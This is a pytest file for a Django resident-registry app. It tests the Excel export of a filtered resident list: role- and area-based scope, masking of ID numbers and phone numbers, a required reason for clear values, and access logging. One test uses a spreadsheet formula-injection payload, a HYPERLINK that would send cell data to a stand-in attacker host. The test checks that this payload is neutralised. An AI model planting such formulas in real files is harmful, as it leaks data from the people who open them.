"""The Excel export of the filtered resident list: scope, masking, clear values with a
reason, formula injection, and the access log."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from gridgov.audit.models import AccessLog, Action, verify_chain
from gridgov.org.models import RoleAssignment
from gridgov.org.roles import Role
from gridgov.people.exporting import build_workbook
from gridgov.people.models import PartyMember, Resident

EXPORT = reverse("household-export")
HEADERS = [
    "姓名",
    "性别",
    "出生日期",
    "身份证号",
    "手机号",
    "户籍状态",
    "人户分离",
    "标签",
    "网格",
    "地址",
    "单元",
    "房号",
]


def read_rows(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    assert "attachment" in response["Content-Disposition"]
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(book.active.iter_rows(values_only=True))
    return rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_export_has_chinese_headers(client_for):
    headers, _rows = read_rows(client_for("street").get(EXPORT))
    assert list(headers) == HEADERS


def test_grid_worker_export_contains_only_own_grid_masked(client_for, world):
    _headers, rows = read_rows(client_for("grid").get(EXPORT))
    assert sorted(r["姓名"] for r in rows) == ["张大爷", "李阿姨"]
    zhang = next(r for r in rows if r["姓名"] == "张大爷")
    assert zhang["身份证号"] == world.residents["zhang"].id_number_masked
    assert zhang["手机号"] == "138****0001"
    assert zhang["网格"] == "甲一网格"
    assert (zhang["单元"], zhang["房号"], zhang["标签"]) == ("1", "101", "独居老人")
    assert zhang["户籍状态"] == "户籍人口" and zhang["人户分离"] == "否"


def test_export_follows_the_list_filters(client_for, world):
    _headers, rows = read_rows(client_for("street").get(EXPORT, {"hukou_status": "floating"}))
    assert [r["姓名"] for r in rows] == ["赵女士"]
    _headers, rows = read_rows(client_for("street").get(EXPORT, {"tag": "elderly_alone"}))
    assert [r["姓名"] for r in rows] == ["张大爷"]


def test_export_holds_only_areas_where_the_user_may_export(client_for, world):
    # Grid worker on 甲一网格 and auditor on the street: the auditor role lets them see
    # (not export) the whole street, so the file holds 甲一网格 only.
    RoleAssignment.objects.create(user=world.users["grid"], role=Role.AUDITOR, area=world.areas["street"])
    client = client_for("grid")
    assert "王先生" in client.get(reverse("household-list")).content.decode()
    _headers, rows = read_rows(client.get(EXPORT))
    assert sorted(r["姓名"] for r in rows) == ["张大爷", "李阿姨"]
    assert "×2" in AccessLog.objects.get().target


def test_export_leaves_out_own_and_duty_households_outside_export_scope(client_for, world):
    member = PartyMember.objects.create(area=world.areas["g1"], name="网格员党员", user=world.users["grid"])
    member.responsibility_households.set([world.households["h3"]])
    RoleAssignment.objects.create(user=world.users["grid"], role=Role.PARTY_MEMBER, area=world.areas["g1"])
    _headers, rows = read_rows(client_for("grid").get(EXPORT))
    assert sorted(r["姓名"] for r in rows) == ["张大爷", "李阿姨"]


def test_out_of_scope_area_filter_exports_nothing(client_for, world):
    response = client_for("grid").get(EXPORT, {"under": world.areas["g2"].pk})
    assert response.status_code == 302
    assert not AccessLog.objects.exists()


def test_masked_export_is_logged_with_default_reason_and_scope(client_for, world):
    client_for("grid").get(EXPORT)
    entry = AccessLog.objects.get()
    assert (entry.action, entry.username, entry.reason, entry.field) == (Action.EXPORT, "grid", "导出脱敏名单", "")
    # Filed under the area the rows come from, so that area's auditors find it.
    assert entry.area_code == world.areas["b1"].code
    assert "×2" in entry.target


def test_clear_export_needs_a_reason(client_for, world):
    response = client_for("community").post(EXPORT, {"clear": "on", "reason": ""})
    assert response.status_code == 302
    assert not AccessLog.objects.exists()


def test_clear_export_with_reason_has_clear_values_and_is_logged(client_for, world):
    response = client_for("community").post(
        EXPORT + "?tag=elderly_alone", {"clear": "on", "reason": "民政核查高龄补贴"}
    )
    _headers, rows = read_rows(response)
    assert [(r["姓名"], r["身份证号"], r["手机号"]) for r in rows] == [
        ("张大爷", world.residents["zhang"].clear_id_number, "13800000001")
    ]
    entry = AccessLog.objects.get()
    assert (entry.action, entry.reason, entry.field) == (Action.EXPORT, "民政核查高龄补贴", "id_number,phone")
    assert "tag=elderly_alone" in entry.target
    assert verify_chain() == (True, 1)


def test_grid_worker_cannot_export_clear_values(client_for, world):
    response = client_for("grid").post(EXPORT, {"clear": "on", "reason": "核查"})
    assert response.status_code == 403
    assert not AccessLog.objects.exists()


def test_clear_flag_in_url_is_ignored(client_for, world):
    _headers, rows = read_rows(client_for("community").get(EXPORT, {"clear": "on", "reason": "x"}))
    assert "13800000001" not in {r["手机号"] for r in rows}


@pytest.mark.parametrize("persona", ["auditor", "volunteer", "department", "unit", "member", "resident"])
def test_export_without_permission_is_403(client_for, persona):
    assert client_for(persona).get(EXPORT).status_code == 403
    assert not AccessLog.objects.exists()


def test_formula_injection_is_neutralised(client_for, world):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    Resident.objects.create(household=world.households["h1"], name=evil, relation="+1", note="@SUM(1)")
    _headers, rows = read_rows(client_for("grid").get(EXPORT))
    cell = next(r["姓名"] for r in rows if "HYPERLINK" in r["姓名"])
    assert cell == "'" + evil


def test_formula_cells_are_stored_as_text_not_formulas(world):
    household = world.households["h1"]
    household.address = "-1+2"
    household.save()
    Resident.objects.create(household=household, name="@cmd")
    book = load_workbook(io.BytesIO(build_workbook(Resident.objects.filter(household=household), clear=False)))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert {"'@cmd", "'-1+2"} <= {c.value for c in cells}
